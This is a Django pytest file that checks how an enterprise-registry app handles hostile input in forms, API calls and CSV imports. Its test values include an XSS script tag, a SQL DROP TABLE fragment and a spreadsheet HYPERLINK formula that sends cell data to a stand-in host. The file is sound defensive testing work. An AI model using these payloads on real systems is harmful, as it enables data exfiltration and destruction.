"""Hostile input: what a careless spreadsheet or a malicious user sends, through forms, API and imports.

Every value gets a clear answer (a 4xx with a field error, or an import row/file error with a code; never
a 500) and nothing is stored that should not be. Values that are legitimate text (HTML, SQL fragments,
a leading + or @) are stored verbatim and made harmless where they are shown: escaped in pages,
neutralised in CSV exports.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse

from sentra.accounts.models import Role
from sentra.accounts.services import token_create
from sentra.accounts.tests.factories import actor_of, persona
from sentra.conftest import PPU, SALOLOANG
from sentra.registry.imports import import_file
from sentra.registry.models import Enterprise
from sentra.registry.tests.factories import AgencyFactory

pytestmark = pytest.mark.django_db

LONG = "A" * 10_000
SCRIPT = "<script>alert(1)</script>"
SQL = "'; DROP TABLE registry_enterprise; --"
HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def officer():
    """A regency officer of PPU: may create enterprises in Saloloang."""
    dinas = AgencyFactory(name="Dinas Perindustrian Kab. Penajam Paser Utara", region_id=PPU)
    return persona(Role.REGENCY_OFFICER, agency=dinas)


@pytest.fixture
def web(client, officer):
    client.force_login(officer)
    return client


@pytest.fixture
def api(client, officer):
    _token, key = token_create(user=officer, name="hostile")
    headers = {"HTTP_AUTHORIZATION": f"Bearer {key}"}

    def post(payload: dict):
        return client.post(
            "/api/v1/enterprises", data=json.dumps(payload), content_type="application/json", **headers
        )

    return post


def export_cells(client, name: str) -> list[str]:
    response = client.get(reverse("web:enterprise_export"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    return [row[1] for row in rows[1:] if name.lstrip("=+-@'") in row[1]]


# --- values that must be refused ---------------------------------------------------------------------

# (field, value, form field with the error). The web form carries village and KBLI as text fields.
REFUSED = [
    pytest.param("name", LONG, "name", id="name-10k-chars"),
    pytest.param("name", "UD Amplang\x00Sejahtera", "name", id="name-nul-byte"),
    pytest.param("workers", -5, "workers", id="workers-negative"),
    pytest.param("investment", 10**30, "investment", id="investment-10e30"),
    pytest.param("latitude", 999, "latitude", id="latitude-999"),
    pytest.param("longitude", -999, "longitude", id="longitude-minus-999"),
    pytest.param("year_started", 2999, "year_started", id="year-2999"),
    pytest.param("nib", "91200'; DROP--", "nib", id="nib-sql-fragment"),
]


def web_data(**overrides) -> dict:
    return {
        "name": "UD Amplang Sejahtera",
        "village_code": SALOLOANG,
        "kbli_code": "10794",
        "workers": 4,
        "investment": 50_000_000,
        "status": "active",
        **overrides,
    }


def api_data(**overrides) -> dict:
    data = {"name": "UD Amplang Sejahtera", "village": SALOLOANG, "kbli": "10794", **overrides}
    return data


@pytest.mark.parametrize(("field", "value", "error_field"), REFUSED)
def test_the_web_form_refuses_a_hostile_value_with_a_field_error(web, field, value, error_field):
    before = Enterprise.objects.count()
    response = web.post(reverse("web:enterprise_create"), web_data(**{field: value}))
    assert response.status_code == 200
    assert error_field in response.context["form"].errors
    assert Enterprise.objects.count() == before


# The API refuses NUL as the web form does (Django's form CharField): a 422 naming the field.
@pytest.mark.parametrize(("field", "value", "error_field"), REFUSED)
def test_the_api_refuses_a_hostile_value_with_a_field_error(api, field, value, error_field):
    before = Enterprise.objects.count()
    response = api(api_data(**{field: value}))
    assert response.status_code in (400, 422), (response.status_code, response.content[:300])
    assert error_field in json.dumps(response.json())
    assert Enterprise.objects.count() == before


# --- text that is legitimate, stored verbatim and shown harmlessly ----------------------------------

VERBATIM = [
    pytest.param(SCRIPT, id="html-script"),
    pytest.param(SQL, id="sql-fragment"),
    pytest.param("Toko \u202eRTL override", id="rtl-override"),
    pytest.param("Toko\x1b[31m Merah", id="escape-sequence"),
    pytest.param(HYPERLINK, id="formula-hyperlink"),
    pytest.param("+62 812 3456", id="leading-plus"),
    pytest.param("-Amplang-", id="leading-minus"),
    pytest.param("@SUM(1+1)", id="leading-at"),
]


@pytest.mark.parametrize("name", VERBATIM)
def test_the_web_form_stores_odd_text_verbatim_and_shows_it_escaped(web, name):
    response = web.post(reverse("web:enterprise_create"), web_data(name=name))
    assert response.status_code == 302
    stored = Enterprise.objects.get()
    assert stored.name == name
    page = web.get(reverse("web:enterprise_detail", args=[stored.pk])).content.decode()
    assert SCRIPT not in page
    if name == SCRIPT:
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    # In a CSV export no cell starts a formula: = + - @ get a leading apostrophe.
    [cell] = export_cells(web, name)
    assert not cell.startswith(("=", "+", "-", "@"))
    assert cell in (name, "'" + name)


@pytest.mark.parametrize("name", VERBATIM)
def test_the_api_stores_odd_text_verbatim(api, name):
    response = api(api_data(name=name))
    assert response.status_code == 201, response.content[:300]
    assert response.json()["name"] == name
    assert Enterprise.objects.get().name == name


def test_a_sql_fragment_is_only_text(web):
    web.post(reverse("web:enterprise_create"), web_data(name=SQL))
    assert Enterprise.objects.filter(name=SQL).count() == 1
    response = web.get(reverse("web:enterprise_list"), {"q": SQL})
    assert response.status_code == 200  # the table is still there, and the search is a parameter


# --- imports -------------------------------------------------------------------------------------------

HEADER = "nama_usaha,kbli,kode_wilayah,tenaga_kerja,investasi,lintang,tahun_mulai\n"


def csv_file(tmp_path, data: bytes):
    path = tmp_path / "ikm.csv"
    path.write_bytes(data)
    return path


def row(name="UD Amplang", workers="4", investment="1000000", latitude="", year="") -> str:
    cells = [name, "10794", SALOLOANG, workers, investment, latitude, year]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


ROW_ERRORS = [
    pytest.param(row(name=LONG), "nama_usaha", "too_long", id="name-10k-chars"),
    pytest.param(row(name=HYPERLINK), "nama_usaha", "formula", id="formula-hyperlink"),
    pytest.param(row(workers="-5"), "tenaga_kerja", "out_of_range", id="workers-negative"),
    pytest.param(row(investment="1" + "0" * 30), "investasi", "out_of_range", id="investment-10e30"),
    pytest.param(row(latitude="999"), "lintang", "out_of_range", id="latitude-999"),
    pytest.param(row(year="2999"), "tahun_mulai", "out_of_range", id="year-2999"),
    pytest.param(row(workers="=1+1"), "tenaga_kerja", "formula", id="formula-in-number"),
]


@pytest.mark.parametrize(("line", "column", "code"), ROW_ERRORS)
def test_an_import_reports_a_hostile_cell_as_a_row_error_and_writes_nothing(
    tmp_path, officer, line, column, code
):
    report = import_file(
        kind="enterprises",
        actor=actor_of(officer),
        path=csv_file(tmp_path, (HEADER + line).encode()),
        commit=True,
    )
    assert (2, column, code) in [(e.row, e.column, e.code) for e in report.errors]
    assert not report.committed
    assert Enterprise.objects.count() == 0


FILE_ERRORS = [
    pytest.param(
        (HEADER + row(name="Kerupuk Ikan Tenggiri Bu Siti Ñ")).encode("latin-1"), "encoding", id="latin-1"
    ),
    pytest.param((HEADER + row()).encode("utf-16"), "encoding", id="utf-16"),
    pytest.param((HEADER + row(name="UD\x00Amplang")).encode(), "file_type", id="nul-byte"),
]


@pytest.mark.parametrize(("data", "code"), FILE_ERRORS)
def test_an_import_refuses_a_badly_encoded_file_with_one_clear_error(tmp_path, officer, data, code):
    report = import_file(
        kind="enterprises", actor=actor_of(officer), path=csv_file(tmp_path, data), commit=True
    )
    assert [e.code for e in report.errors] == [code]
    assert report.errors[0].row is None and report.errors[0].message
    assert Enterprise.objects.count() == 0


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(SCRIPT, id="html-script"),
        pytest.param(SQL, id="sql-fragment"),
        pytest.param("+62 812 3456", id="leading-plus"),
        pytest.param("@SUM(1+1)", id="leading-at"),
        pytest.param("Toko \u202eRTL", id="rtl-override"),
    ],
)
def test_an_import_stores_odd_text_verbatim(tmp_path, officer, name):
    path = csv_file(tmp_path, (HEADER + row(name=name)).encode())
    report = import_file(kind="enterprises", actor=actor_of(officer), path=path, commit=True)
    assert report.ok and report.created == 1, report.as_dict()["errors"]
    assert Enterprise.objects.get().name == name


def test_the_import_api_answers_a_binary_upload_with_a_file_error(client, officer):
    from django.core.files.uploadedfile import SimpleUploadedFile

    _token, key = token_create(user=officer, name="hostile")
    upload = SimpleUploadedFile("ikm.csv", b"\x00\x01\x02PK\x00garbage" * 100, content_type="text/csv")
    response = client.post(
        "/api/v1/imports/enterprises?commit=true", {"file": upload}, HTTP_AUTHORIZATION=f"Bearer {key}"
    )
    assert response.status_code == 200
    assert [e["code"] for e in response.json()["report"]["errors"]] == ["file_type"]
    assert Enterprise.objects.count() == 0
